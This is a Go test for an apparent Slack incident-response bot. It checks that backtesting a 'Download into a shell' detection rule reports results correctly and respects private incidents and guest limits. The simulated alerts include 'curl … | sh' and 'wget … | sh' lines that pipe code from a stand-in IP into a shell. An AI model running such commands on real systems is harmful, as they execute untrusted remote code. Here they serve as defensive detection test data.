package main

import (
	"context"
	"strings"
	"testing"
	"time"

	"firebreak/incident"
	"firebreak/store"
)

// TestBacktestFromSlack: what a rule would have found in the alerts that are
// kept is told in the incident's channel, once, although the bot is killed over
// it, and elsewhere to who asked alone.
func TestBacktestFromSlack(t *testing.T) {
	inWorld(t, func(w *world) {
		w.env["FIREBREAK_RULES"] = ruleFolder(t, map[string]string{"curl.yml": curlRule})
		w.start()
		for _, line := range []string{"curl http://203.0.113.9/a | sh", "curl http://203.0.113.9/b | sh", "ls"} {
			w.siem("```" + processStart(line, "www-data", "web-1") + "```")
		}
		w.pass(2 * time.Hour)
		w.siem("```" + processStart("wget -O- http://203.0.113.9/c | sh", "www-data", "web-1") + "```")
		w.settle()
		c := w.channel(1)
		join(c, "sam")
		found := w.detections(1)[0].ID
		w.update(func(tx *store.Tx) error {
			_, err := tx.SaveVerdict(incident.Verdict{Detection: found, By: w.user("sam"), At: time.Now(), Confirmed: true})
			return err
		})
		w.wantAnswer(c, "sam", "/inc detect backtest "+strings.ToUpper(curlID)+" 7", "I try *Download into a shell*", "last 7 days")
		w.crash()
		w.start()
		w.settle()
		said := w.saidIn(c, "it would have told")
		if len(said) != 1 {
			t.Fatalf("%d results: %+v", len(said), said)
		}
		for _, want := range []string{
			"Download into a shell* (`" + curlID + "`) on 4 alerts of the last 7 days", "*it would have told 2 times*, about 1 group; it matches 3 times.",
			"account www-data", "It finds 1 of 1 confirmed detection.", "Alerts of other private incidents are left out",
		} {
			if !strings.Contains(texts(said[0].Blocks), want) {
				t.Errorf("the result lacks %q: %s", want, texts(said[0].Blocks))
			}
		}

		general := w.sb.Slack.In("#general")
		for who, want := range map[string]string{
			"sam":  "on 4 alerts of the last 30 days",
			"alex": "on 0 alerts of the last 30 days: it finds nothing.", // the incident is private
		} {
			w.wantAnswer(general, who, "/inc detect backtest "+curlID, "last 30 days")
			w.settle()
			if !w.told(who, want) {
				for _, e := range w.sb.Slack.Ephemerals(who) {
					t.Errorf("%s was told %s", who, e.Text)
				}
			}
		}
		if said := w.saidIn(general, "Download"); len(said) > 0 {
			t.Errorf("said in #general: %+v", said)
		}
		w.wantAnswer(general, "sam", "/inc detect backtest nobody", "I have no rule with the id or name `nobody`")
		w.wantAnswer(general, "sam", "/inc detect backtest "+curlID+" soon", "soon is no number of days")
		w.wantAnswer(general, "guest", "/inc detect backtest "+curlID, "Only full members")
	})
}

// update changes what is stored.
func (w *world) update(change func(*store.Tx) error) {
	w.t.Helper()
	if err := w.app.store.Update(context.Background(), change); err != nil {
		w.t.Fatal(err)
	}
}
